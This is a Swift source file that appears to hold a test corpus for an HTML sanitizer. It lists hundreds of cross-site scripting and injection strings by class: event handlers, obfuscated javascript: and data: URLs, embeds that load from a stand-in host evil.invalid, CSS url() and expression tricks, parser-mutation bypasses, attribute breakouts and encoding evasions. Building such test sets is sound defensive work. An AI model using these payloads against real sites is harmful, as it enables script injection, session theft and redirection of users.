/// Hundreds of ways to run a script, to make a request or to lead a reader away from inside an article, by their classes.
/// Each calls `hit()` or asks `evil.invalid` if it works. Pictures have relative addresses: those may be loaded.
enum AttackStrings {
    static let all = handlers + schemes + embeds + styles + mutations + breakouts + encodings

    /// Event handlers on elements of all kinds, in all spellings.
    static let handlers: [String] = {
        let events = [
            "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle",
            "onpageshow", "onbegin", "onwheel", "oncopy", "onpointerenter", "onloadstart", "oncanplay", "ONERROR",
            "oNlOaD",
            "onbeforeunload", "onhashchange", "onscroll", "onauxclick", "onbeforematch",
        ]
        let elements = [
            "img src=x.png", "a href=#", "p", "video src=x.mp4 autoplay", "audio src=x.mp3 autoplay", "details open",
            "table", "input autofocus", "body", "svg", "math", "marquee", "select autofocus", "div tabindex=1",
        ]
        var found = elements.flatMap { element in events.map { "<\(element) \($0)=hit()>x" } }
        for joint in ["/", "\n", "\t", "\u{C}", "/ /", "\"\"", "''", " x=y ", " = ", "\u{0}"] {
            found.append("<img src=x.png\(joint)onerror=hit()>")
            found.append("<img src=\"x.png\"\(joint)onerror=\"hit()\">")
        }
        for value in ["'hit()'", "\"hit()\"", "`hit()`", "&#104;it()", "hit&lpar;&rpar;", "hit`1`", "javascript:hit()"]
        {
            found.append("<img src=x.png onerror=\(value)>")
        }
        return found
    }()

    /// Addresses that run something, and how they are hidden.
    static let schemes: [String] = {
        let spellings = [
            "javascript:hit()", "JaVaScRiPt:hit()", " javascript:hit()", "\u{1}javascript:hit()", "java\tscript:hit()",
            "java\nscript:hit()", "java&#13;script:hit()", "javascript&colon;hit()", "&#106;avascript:hit()",
            "&#x6A;&#x61;vascript:hit()", "&#0000106avascript:hit()", "javascript:/**/hit()", "javascript://%0ahit()",
            "javascript:void(hit())", "jav&Tab;ascript:hit()", "jav&NewLine;ascript:hit()", "&#8203;javascript:hit()",
            "vbscript:hit()", "data:text/html,<script>parent.hit()</script>",
            "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
            "data:image/svg+xml,<svg onload=hit() xmlns='http://www.w3.org/2000/svg'/>",
            "blob:hit", "filesystem:x", "view-source:javascript:hit()", "livescript:hit()", "mocha:hit()",
            "\u{A0}javascript:hit()",
            "javascript\u{0}:hit()", "feed:javascript:hit()", "about:blank", "file:///etc/passwd",
            "jar:javascript:hit()",
        ]
        let holders = [
            "<a href=\"%\">x</a>", "<img src=\"%\">", "<video poster=\"%\"></video>",
            "<blockquote cite=\"%\">x</blockquote>",
            "<img srcset=\"% 1x\" src=x.png>", "<a xlink:href=\"%\">x</a>",
            "<form action=\"%\"><button>x</button></form>",
            "<q cite='%'>x</q>", "<source src='%'>", "<iframe src=\"%\"></iframe>",
        ]
        return holders.flatMap { holder in spellings.map { holder.split(separator: "%").joined(separator: $0) } }
    }()

    /// Elements that load, run or lead elsewhere.
    static let embeds = [
        "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT >", "<script src=//evil.invalid/x.js></script>",
        "<script>hit()",
        "<script/x>hit()</script/x>", "<script\n>hit()</script\n>", "<scr<script>ipt>hit()</scr</script>ipt>",
        "<script type=module>hit()</script>", "<script>/*</script>*/hit()</script>", "<script><!-- hit() --></script>",
        "<iframe src=//evil.invalid/></iframe>", "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>",
        "<frameset><frame src=//evil.invalid/></frameset>", "<object data=//evil.invalid/></object>",
        "<object type=text/html data='data:text/html,<script>parent.hit()</script>'></object>",
        "<embed src=//evil.invalid/>", "<applet code=x codebase=//evil.invalid/></applet>",
        "<base href=//evil.invalid/><img src=x.png>", "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
        "<meta http-equiv=refresh content='0;javascript:hit()'>", "<meta http-equiv=set-cookie content=a=b>",
        "<link rel=stylesheet href=//evil.invalid/x.css>", "<link rel=import href=//evil.invalid/>",
        "<link rel=prefetch href=//evil.invalid/>", "<link rel=dns-prefetch href=//evil.invalid/>",
        "<link rel=preload as=script href=//evil.invalid/x.js>", "<link rel=manifest href=//evil.invalid/>",
        "<form action=//evil.invalid/ id=f></form><script>f.submit()</script>",
        "<form><button formaction=javascript:hit()>x",
        "<form><input type=image src=//evil.invalid/i.png></form>", "<isindex action=javascript:hit() type=image>",
        "<input type=image src=//evil.invalid/i.png onerror=hit()>", "<keygen autofocus onfocus=hit()>",
        "<portal src=//evil.invalid/></portal>", "<fencedframe></fencedframe>", "<bgsound src=//evil.invalid/x.mid>",
        "<body background=//evil.invalid/i.png>",
        "<table background=//evil.invalid/i.png><tr><td background=//evil.invalid/>x",
        "<img lowsrc=//evil.invalid/i.png dynsrc=//evil.invalid/i.avi>", "<a ping=//evil.invalid/ href=#>x</a>",
        "<svg><script>hit()</script></svg>", "<svg/onload=hit()>",
        "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
        "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>", "<svg><set attributeName=onload to=hit()></svg>",
        "<svg><image href=//evil.invalid/i.png></svg>", "<svg><use href='//evil.invalid/x.svg#a'></svg>",
        "<svg><foreignObject><iframe src=//evil.invalid/></foreignObject></svg>",
        "<svg><style>@import '//evil.invalid/x.css'</style></svg>",
        "<math href=javascript:hit()>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
        "<template><script>hit()</script></template>",
        "<template shadowrootmode=open><img src=x.png onerror=hit()></template>",
        "<xml id=x><x><![CDATA[<img src=x.png onerror=hit()>]]></x></xml>",
        "<?xml-stylesheet href=//evil.invalid/x.css?>",
        "<!ENTITY x SYSTEM 'javascript:hit()'>&x;", "<dialog open onclose=hit()>x</dialog>",
        "<slot onslotchange=hit()>x</slot>",
        "<custom-element is=x onclick=hit()>x</custom-element>", "<noembed><img src=x.png onerror=hit()></noembed>",
    ]

    /// Style sheets and style attributes.
    static let styles: [String] = {
        let declarations = [
            "background:url(//evil.invalid/i.png)", "background-image:url('//evil.invalid/i.png')",
            "list-style-image:url(//evil.invalid/i.png)", "content:url(//evil.invalid/i.png)",
            "width:expression(hit())",
            "behavior:url(//evil.invalid/x.htc)", "-moz-binding:url(//evil.invalid/x.xml#a)",
            "cursor:url(//evil.invalid/c.cur),auto",
            "background:u\\72l(//evil.invalid/i.png)", "background:url(javascript:hit())",
            "filter:url(//evil.invalid/f.svg#a)",
            "position:fixed;top:0;left:0;width:100%;height:100%", "border-image:url(//evil.invalid/i.png)",
            "mask:url(//evil.invalid/m.svg)",
            "font-family:x;src:url(//evil.invalid/f.woff)", "--x:url(//evil.invalid/i.png);background:var(--x)",
        ]
        return declarations.map { "<p style=\"\($0)\">x</p>" } + declarations.map { "<style>*{\($0)}</style>" }
            + [
                "<style>@import '//evil.invalid/x.css';</style>", "<style>@import url(//evil.invalid/x.css)",
                "<style>@font-face{font-family:x;src:url(//evil.invalid/f)}p{font-family:x}</style><p>x",
                "<STYLE type=text/css>@im\\port'//evil.invalid/x.css';</STYLE>",
                "<style></style><img src=x.png onerror=hit()>",
            ]
    }()

    /// What reads as harmless once and as something else when it is read again.
    static let mutations: [String] = {
        let bait = "<img src=x.png onerror=hit()>"
        let containers = [
            "noscript", "style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "plaintext", "template",
            "select",
            "option", "svg", "math", "script",
        ]
        var found = containers.flatMap { name in
            [
                "<\(name)><p title=\"</\(name)>\(bait)\">", "<\(name)><a id=\"</\(name)>\(bait)\"></\(name)>",
                "<svg><\(name)>\(bait)</\(name)></svg>", "<math><mtext><\(name)>\(bait)</\(name)></mtext></math>",
                "<\(name)><!--</\(name)>\(bait)-->", "<\(name)>\(bait)", "</\(name)>\(bait)",
            ]
        }
        found += [
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;\(bait)\">",
            "<form><math><mtext></form><form><mglyph><style></math>\(bait)",
            "<svg></p><style><a id=\"</style>\(bait)\">",
            "<svg><p><style><g title=\"</style>\(bait)\">",
            "<math><annotation-xml encoding=text/html><p>\(bait)</p></annotation-xml></math>",
            "<svg><desc><p>\(bait)</p></desc></svg>", "<svg><title><p>\(bait)</p></title></svg>", "<!-->\(bait)-->",
            "<!--->\(bait)-->",
            "<!-- x --!>\(bait)-->", "<!-\(bait)>", "<![CDATA[>\(bait)]]>", "<svg><![CDATA[><\(bait)]]></svg>",
            "<?\(bait)?>",
            "<%\(bait)%>", "</ \(bait)>", "<//\(bait)>", "<a<\(bait)", "<p/title=<\(bait)>", "<p title='>\(bait)'>",
            "<p title=`>\(bait)`>", "<img alt=\"`` onerror=hit()\" src=x.png>",
            "<listing>&lt;img src=x.png onerror=hit()&gt;</listing>",
            "<table><td><table><p>\(bait)", "<select><svg><style>\(bait)", "<b><p><b><p>\(bait)", "<a><a><a>\(bait)",
            "<template><template></template>\(bait)</template>", "<table><a href=javascript:hit()><tr><td>x",
            String(repeating: "<div>", count: 600) + bait, String(repeating: "<b>", count: 600) + bait,
        ]
        return found
    }()

    /// Ways out of an attribute, a comment or a text.
    static let breakouts = [
        "\"><img src=x.png onerror=hit()>", "'><img src=x.png onerror=hit()>", "--><img src=x.png onerror=hit()>",
        "]]><img src=x.png onerror=hit()>", "</div></body></html><img src=x.png onerror=hit()>",
        "<img src=x.png alt='\"><img src=x.png onerror=hit()>'>",
        "<img src=x.png title=\"&quot;&gt;&lt;img src=x.png onerror=hit()&gt;\">",
        "<a title='&#34; onmouseover=hit() x=&#34;' href=#>x</a>", "<img src='x.png&quot; onerror=&quot;hit()'>",
        "<img src=x.png onerror=hit()//", "<img src=x.png onerror=hit() <p>", "<img src=x.png <img onerror=hit()>",
        "<<img src=x.png onerror=hit()>>", "<img src=\"x.png\"\"onerror=hit()>",
        "<a href=\"https://a.invalid/?<script>hit()</script>\">x</a>",
        "<p lang='\" onclick=hit() '>x</p>", "<td colspan='1\" onclick=\"hit()'>x",
        "<time datetime='\"><script>hit()</script>'>x</time>",
    ]

    /// References, NUL, odd white space and text that only looks harmless.
    static let encodings = [
        "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;",
        "&amp;lt;img src=x.png onerror=hit()&amp;gt;",
        "<\u{0}script>hit()</script>", "<scr\u{0}ipt>hit()</script>", "<img\u{0}src=x.png onerror=hit()>",
        "<\u{A0}script>hit()</script>",
        "\u{FF1C}script\u{FF1E}hit()\u{FF1C}/script\u{FF1E}", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
        "<script\u{2028}>hit()</script>",
        "<ſcript>hit()</ſcript>", "<ımg src=x.png onerror=hit()>", "\u{1B}$B<script>hit()</script>\u{1B}(B",
        "<img src=x.png on\u{200B}error=hit()>",
        "%3Cscript%3Ehit()%3C/script%3E", "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
        "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    ]
}
